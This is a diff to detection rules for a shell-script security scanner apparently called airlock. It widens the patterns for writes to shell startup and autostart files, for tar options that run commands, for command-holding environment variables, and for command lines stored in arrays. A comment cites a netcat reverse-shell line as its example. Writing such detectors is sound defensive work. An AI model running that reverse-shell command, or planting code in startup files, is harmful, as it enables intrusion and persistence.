@@ -411,7 +411,7 @@
 ; analysed (export PATH=... is nothing; an alias's value is code, below)
 ((redirected_statement body: [(command) @n @code (list (command) @n @code .)] redirect: (file_redirect destination: (_) @dst)) @finding
  (#resolves-to? @n "echo|printf")
- (#value-match? @dst "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/config\\.fish$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
+ (#value-match? @dst "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/(config|conf\\.d/[^/]+)\\.fish$|/\\.config/(plasma-workspace/(env|shutdown)|autostart-scripts)/[^/]+$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
  (#value-match? @code "")
  (#set! id "sh-inline-code")
  (#set! severity "info")
@@ -421,7 +421,7 @@
 ; { echo '...'; echo '...'; } >> ~/.bashrc: each line a group writes
 ((redirected_statement body: [(compound_statement (command) @n @code) (subshell (command) @n @code)] redirect: (file_redirect destination: (_) @dst)) @finding
  (#resolves-to? @n "echo|printf")
- (#value-match? @dst "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/config\\.fish$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
+ (#value-match? @dst "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/(config|conf\\.d/[^/]+)\\.fish$|/\\.config/(plasma-workspace/(env|shutdown)|autostart-scripts)/[^/]+$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
  (#value-match? @code "")
  (#set! id "sh-inline-code")
  (#set! severity "info")
@@ -430,7 +430,7 @@
 
 ((redirected_statement body: [(command) @n (list (command) @n .)] redirect: (file_redirect destination: (_) @dst) redirect: (heredoc_redirect (heredoc_body) @code)) @finding
  (#resolves-to? @n "cat|tee")
- (#value-match? @dst "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/config\\.fish$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
+ (#value-match? @dst "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/(config|conf\\.d/[^/]+)\\.fish$|/\\.config/(plasma-workspace/(env|shutdown)|autostart-scripts)/[^/]+$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
  (#value-match? @code "")
  (#set! id "sh-inline-code")
  (#set! severity "info")
@@ -559,6 +559,18 @@
  (#set! analyze "code")
  (#set! analyze-lines "ProxyCommand|LocalCommand|KnownHostsCommand|Match"))
 
+; cmd=(nc h 4444 -e /bin/sh); "${cmd[@]}", "${job[@]:2}": a command line
+; an array holds, whose arguments are no words of the command as written:
+; the line (the array's elements joined) analysed as code, when the array
+; is the whole command (batch -f "$job" is not batch -f)
+((command . name: (command_name [(string . (expansion (subscript index: (_) @i)) @code .) (expansion (subscript index: (_) @i)) @code]) .) @finding
+ (#eq? @i "@")
+ (#value-match? @code "\\s")
+ (#set! id "sh-inline-code")
+ (#set! severity "info")
+ (#set! message "runs a command line an array holds; airlock analysed that line too")
+ (#set! analyze "code"))
+
 ; tar --checkpoint-action=exec=CMD, tar --to-command=CMD, tar -I CMD
 ; (--use-compress-program), --info-script / --new-volume-script: tar runs
 ; the command with a shell: analysed
@@ -576,7 +588,7 @@
 ; split --filter="$f"): high, as for -I below
 ((command argument: (_) @code) @n @finding
  (#resolves-to? @n "tar|gtar|split|sort")
- (#match? @code "^[\"']?--(checkpoint-action=[\"']?exec|to-command|use-compress-program|info-script|new-volume-script|filter|compress-program)=")
+ (#match? @code "^[\"']?--(checkpoint-action=[\"']?exec|to-command|use-compress-program|info[a-z-]*|new-[a-z-]+|filter|compress-program)=")
  (#unknown-code? @code)
  (#set! id "sh-dynamic-code")
  (#set! severity "high")
@@ -584,7 +596,7 @@
 
 ((command argument: (_) @code) @n @finding
  (#resolves-to? @n "tar|gtar")
- (#value-match? @code "^--(to-command|use-compress-program|info-script|new-volume-script)=")
+ (#value-match? @code "^--(to-command|use-compress-program|info[a-z-]*|new-[a-z-]+)=")
  (#set! id "sh-inline-code")
  (#set! severity "info")
  (#set! message "gives tar a command to run (--to-command, --use-compress-program); airlock analysed that code too")
@@ -616,7 +628,7 @@
 ; run time
 ((command argument: (_) @flag . argument: (_) @code) @n @finding
  (#resolves-to? @n "tar|gtar|split|sort")
- (#match? @flag "^(-I|--use-compress-program|--to-command|--info-script|--new-volume-script|--filter|--compress-program)$")
+ (#match? @flag "^(-I|-[a-zA-Z]*F|--use-compress-program|--to-command|--info[a-z-]*|--new-[a-z-]+|--filter|--compress-program)$")
  (#value-match? @code "")
  (#set! id "sh-inline-code")
  (#set! severity "info")
@@ -634,7 +646,7 @@
 
 ((command argument: (_) @flag . argument: (_) @code) @n @finding
  (#resolves-to? @n "tar|gtar|split|sort")
- (#match? @flag "^(-I|--use-compress-program|--to-command|--info-script|--new-volume-script|--filter|--compress-program)$")
+ (#match? @flag "^(-I|-[a-zA-Z]*F|--use-compress-program|--to-command|--info[a-z-]*|--new-[a-z-]+|--filter|--compress-program)$")
  (#unknown-code? @code)
  (#set! id "sh-dynamic-code")
  (#set! severity "high")
@@ -702,7 +714,7 @@
 ; which bash runs when it expands the value again (prompts, ${v@P},
 ; arithmetic): analysed as code
 ((variable_assignment value: (_) @code) @finding
- (#match? @finding "^(GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|RSYNC_RSH|RSYNC_CONNECT_PROG|GIT_PROXY_COMMAND|GIT_CONFIG_VALUE_[0-9]+|PROMPT_COMMAND|LESSCLOSE|BROWSER)=|^[A-Za-z_][A-Za-z0-9_]*(\\[[^]]*\\])?\\+?=\\$?'([^'\\\\]|\\\\.)*(\\$\\(|`)")
+ (#match? @finding "^(GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|RSYNC_RSH|RSYNC_CONNECT_PROG|GIT_PROXY_COMMAND|GIT_CONFIG_VALUE_[0-9]+|PROMPT_COMMAND|LESSCLOSE|BROWSER|SYSTEMD_PAGER|SYSTEMD_EDITOR|SUDO_EDITOR|PSQL_PAGER)=|^[A-Za-z_][A-Za-z0-9_]*(\\[[^]]*\\])?\\+?=\\$?'([^'\\\\]|\\\\.)*(\\$\\(|`)")
  (#value-match? @code "")
  (#set! id "sh-inline-code")
  (#set! severity "info")
@@ -714,7 +726,7 @@
 ;   command) analysed as the code it is
 ([(variable_assignment value: (string [(string_content) (simple_expansion) (expansion)] @code) @whole) @finding
   (command argument: (concatenation (word) @finding (string [(string_content) (simple_expansion) (expansion)] @code) @whole))]
- (#match? @finding "^(GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|RSYNC_RSH|RSYNC_CONNECT_PROG|GIT_PROXY_COMMAND|GIT_CONFIG_VALUE_[0-9]+|PROMPT_COMMAND|LESSCLOSE|BROWSER)=|^(?i:core\\.(sshcommand|pager|editor|fsmonitor|askpass|gitproxy)|sequence\\.editor|diff\\.external|pager\\.[a-z.-]+|gpg\\.program|credential\\.helper|filter\\.[^.=]+\\.(clean|smudge|process)|diff\\.[^.=]+\\.(textconv|command)|merge\\.[^.=]+\\.driver|uploadpack\\.packobjectshook)=$")
+ (#match? @finding "^(GIT_SSH_COMMAND|GIT_PAGER|GIT_EDITOR|GIT_SEQUENCE_EDITOR|GIT_EXTERNAL_DIFF|GIT_ASKPASS|SSH_ASKPASS|PAGER|MANPAGER|EDITOR|VISUAL|RSYNC_RSH|RSYNC_CONNECT_PROG|GIT_PROXY_COMMAND|GIT_CONFIG_VALUE_[0-9]+|PROMPT_COMMAND|LESSCLOSE|BROWSER|SYSTEMD_PAGER|SYSTEMD_EDITOR|SUDO_EDITOR|PSQL_PAGER)=|^(?i:core\\.(sshcommand|pager|editor|fsmonitor|askpass|gitproxy)|sequence\\.editor|diff\\.external|pager\\.[a-z.-]+|gpg\\.program|credential\\.helper|filter\\.[^.=]+\\.(clean|smudge|process)|diff\\.[^.=]+\\.(textconv|command)|merge\\.[^.=]+\\.driver|uploadpack\\.packobjectshook)=$")
  (#unknown-code? @whole)
  (#value-match? @code "\\s")
  (#set! id "sh-inline-code")
@@ -837,7 +849,7 @@
 ((pipeline . (command) @n @code . (command argument: (_) @dst) @w .) @finding
  (#resolves-to? @n "echo|printf")
  (#resolves-to? @w "tee|dd|sponge|sort")
- (#value-match? @dst "(^(of=)?|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/config\\.fish$|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
+ (#value-match? @dst "(^(of=)?|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/(config|conf\\.d/[^/]+)\\.fish$|/\\.config/(plasma-workspace/(env|shutdown)|autostart-scripts)/[^/]+$|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
  (#value-match? @code "")
  (#set! id "sh-inline-code")
  (#set! severity "info")
@@ -851,7 +863,7 @@
 ((command argument: (_) @flag . argument: (_) @dst) @w @finding
  (#match? @flag "^-fprintf$")
  (#resolves-to? @w "find")
- (#value-match? @dst "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/config\\.fish$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/|^/etc/(cron\\.(d|hourly|daily|weekly|monthly)(/|$)|crontab$|anacrontab$)|^/var/spool/cron(/|$)|(^|/)\\.config/(systemd/user/|autostart/)")
+ (#value-match? @dst "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/(config|conf\\.d/[^/]+)\\.fish$|/\\.config/(plasma-workspace/(env|shutdown)|autostart-scripts)/[^/]+$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/|^/etc/(cron\\.(d|hourly|daily|weekly|monthly)(/|$)|crontab$|anacrontab$)|^/var/spool/cron(/|$)|(^|/)\\.config/(systemd/user/|autostart/)")
  (#set! id "sh-dynamic-code")
  (#set! severity "high")
  (#set! message "writes text into a shell's startup file or a cron or systemd file with find -fprintf: code run later that the analysis does not read"))
@@ -862,7 +874,7 @@
 ((command argument: (_) @code) @w @finding
  (#resolves-to? @w "sed|gsed")
  (#value-match? @code "^\\$\\s*a\\\\?\\s*\\S")
- (#arg-value-match? @w "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/config\\.fish$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
+ (#arg-value-match? @w "(^|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/(config|conf\\.d/[^/]+)\\.fish$|/\\.config/(plasma-workspace/(env|shutdown)|autostart-scripts)/[^/]+$|^/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^/etc/profile\\.d/")
  (#set! id "sh-inline-code")
  (#set! severity "info")
  (#set! message "appends a line to a shell's startup file with sed (sed -i '$a ...'), which every new shell runs; airlock analysed that code too")
@@ -877,7 +889,7 @@
   (redirected_statement body: (command) @w (heredoc_redirect (heredoc_body) @code))
   (redirected_statement body: (command) @w redirect: (file_redirect destination: (process_substitution (command) @code)))] @finding
  (#resolves-to? @w "tee|dd|sponge|sort")
- (#arg-value-match? @w "(^(of=)?|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/config\\.fish$|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
+ (#arg-value-match? @w "(^(of=)?|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/(config|conf\\.d/[^/]+)\\.fish$|/\\.config/(plasma-workspace/(env|shutdown)|autostart-scripts)/[^/]+$|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
  (#value-match? @code "")
  (#set! id "sh-inline-code")
  (#set! severity "info")
@@ -889,7 +901,7 @@
 ([(redirected_statement body: (command redirect: (herestring_redirect) @code) @n redirect: (file_redirect destination: (_) @dst))
   (redirected_statement body: (command) @n redirect: (heredoc_redirect (file_redirect destination: (_) @dst) (heredoc_body) @code))] @finding
  (#resolves-to? @n "cat|tee")
- (#value-match? @dst "(^(of=)?|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/config\\.fish$|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
+ (#value-match? @dst "(^(of=)?|/)\\.(bashrc|bash_profile|bash_login|profile|zshrc|zprofile|zshenv|zlogin|kshrc|mkshrc|cshrc|tcshrc|bash_logout|xprofile|xsessionrc|xsession|xinitrc)$|/fish/(config|conf\\.d/[^/]+)\\.fish$|/\\.config/(plasma-workspace/(env|shutdown)|autostart-scripts)/[^/]+$|^(of=)?/etc/(profile|bash\\.bashrc|zsh/zshrc|environment)$|^(of=)?/etc/profile\\.d/")
  (#value-match? @code "")
  (#set! id "sh-inline-code")
  (#set! severity "info")
